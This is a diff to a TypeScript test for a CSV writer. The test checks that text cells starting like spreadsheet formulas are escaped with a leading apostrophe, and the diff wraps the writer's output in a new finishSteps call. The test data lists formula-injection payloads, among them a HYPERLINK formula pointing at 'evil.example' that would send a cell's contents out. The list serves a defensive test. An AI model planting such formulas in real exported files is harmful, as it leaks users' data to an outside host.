@@ -4,6 +4,7 @@ import { test } from 'node:test'
 import { reportCsv } from '../../examples/orders/print.ts'
 import { t } from '../../src/contract/field.ts'
 import { writeCsv } from '../../src/rest/formats/csv.ts'
+import { finishSteps } from '../../src/service/turns.ts'
 import { json, order, startOrders } from './orders-over-rest.ts'
 
 const formulas = ['=HYPERLINK("http://evil.example"&A1)', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1']
@@ -20,7 +21,8 @@ test('A1.6 a cell of text that a spreadsheet would take for a formula begins wit
   const rest = { many: ['=1'], whole: -3, money: '-2.50', real: -0.5, wait: '-P1D' }
   for (const text of [...formulas, 'a=1', ' =1', "'=1"]) {
     const document = { name: 'row', title: 'Row', fields, value: { text, ...rest }, links: [] }
-    const [, cells] = /^[^\n]*\r\n(.*)\r\n$/s.exec(writeCsv(document, { namespace: '', only: undefined })) ?? []
+    const [, cells] =
+      /^[^\n]*\r\n(.*)\r\n$/s.exec(finishSteps(writeCsv(document, { namespace: '', only: undefined }))) ?? []
     const written = formulas.includes(text) ? `'${text}` : text
     const quoted = /[",\r]/.test(written) ? `"${written.replaceAll('"', '""')}"` : written
     assert.equal(cells, `${quoted},"[""=1""]",-3,-2.50,-0.5,-P1D`)
